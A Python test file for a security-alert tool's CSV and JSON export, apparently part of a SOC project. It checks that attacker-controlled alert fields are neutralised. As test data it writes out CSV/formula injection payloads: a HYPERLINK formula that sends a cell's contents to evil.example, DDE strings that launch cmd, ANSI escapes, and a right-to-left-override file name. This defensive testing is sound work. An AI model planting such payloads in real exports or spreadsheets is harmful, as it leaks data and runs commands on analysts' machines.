"""`soc alerts --csv`/`--json` with attacker-chosen text in the alerts (a user name, a host, a path taken from
a log): no cell a spreadsheet would run as a formula, no raw control character (issue 17 item 8)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, datetime

import polars as pl

from soc.alerts.schema import conform
from soc.sinks.alert_store import AlertStore

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = {  # field -> (stored value, what the CSV must hold)
    "user.name": (LINK, "'" + LINK),
    "host.hostname": ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    "source.address": ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    "organization.name": ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    "labels.system": ("\t=1+1", "\\x09=1+1"),
    "labels.owner": ("\r=1+1", "\\x0d=1+1"),
    "rule.name": ("login \x1b[31mfailed\x1b[0m\nfor root", "login \\x1b[31mfailed\\x1b[0m\\x0afor root"),
    "log.file.path": ("/var/log/a\x00b\u202egpj.exe", "/var/log/a\\x00b\\u202egpj.exe"),
    "destination.address": (" =1+1", "' =1+1"),
    "labels.asset_match": ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
    "organization.id": ("-42", "-42"),  # a number, not a formula: kept
    "labels.security_level": ("3", "3"),
    "event.dataset": ("system.auth", "system.auth"),
}


def soc(*args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "COLUMNS": "200"}
    return subprocess.run([sys.executable, "-m", "soc", *args], capture_output=True, env=env, timeout=300,
                          check=False)


def store_hostile_alert(data_dir) -> dict:
    row = {name: value for name, (value, _) in HOSTILE.items()}
    row.update({"@timestamp": datetime(2026, 11, 1, 10, tzinfo=UTC), "event.id": "a1", "event.kind": "alert",
                "event.severity": 4, "event.risk_score": -1.5, "event.count": -3, "rule.id": "r1",
                "threat.technique.id": ["=1+1", "T1110"], "labels.severity": "high", "labels.layer": "2",
                "log.line": 7, "log.offset": -1})
    frame = conform(pl.DataFrame([row], schema_overrides={"@timestamp": pl.Datetime("us", "UTC")}))
    assert AlertStore(data_dir).append(frame) == 1
    return row


def test_csv_neutralises_formulas_and_control_characters(tmp_path):
    store_hostile_alert(tmp_path)
    res = soc("alerts", "--data-dir", str(tmp_path), "--csv")
    assert res.returncode == 0, res.stderr.decode()
    text = res.stdout.decode()
    assert all(c == "\n" or ord(c) >= 0x20 for c in text), "a raw control character in the CSV"
    assert text.count("\n") == 2  # the header and one alert: no line break inside a cell
    (row,) = list(csv.DictReader(io.StringIO(text)))
    for name, (_, expected) in HOSTILE.items():
        assert row[name] == expected, name
    assert row["threat.technique.id"] == "'=1+1 T1110"  # joined, then neutralised as a whole
    for cell in row.values():
        assert cell.lstrip()[:1] not in ("=", "+", "@", "\t", "\r", "\uff1d")
    # numbers stay numbers (a negative one is not a formula), unquoted
    assert (row["event.severity"], row["event.risk_score"], row["event.count"], row["log.offset"]) == (
        "4", "-1.5", "-3", "-1")
    line = text.splitlines()[1]
    assert ',-1.5,-3,' in line and ',"-42",' in line  # text cells quoted, numeric ones not
    assert f'"\'{LINK.replace(chr(34), chr(34) * 2)}"' in line  # the quote prefix inside a quoted cell


def test_json_escapes_control_characters_and_keeps_the_text(tmp_path):
    stored = store_hostile_alert(tmp_path)
    res = soc("alerts", "--data-dir", str(tmp_path), "--json")
    assert res.returncode == 0, res.stderr.decode()
    text = res.stdout.decode()
    assert all(c == "\n" or ord(c) >= 0x20 for c in text)
    (doc,) = [json.loads(line) for line in text.splitlines()]
    for name in HOSTILE:
        assert doc[name] == stored[name], name  # JSON is exact: the consumer escapes for its own output
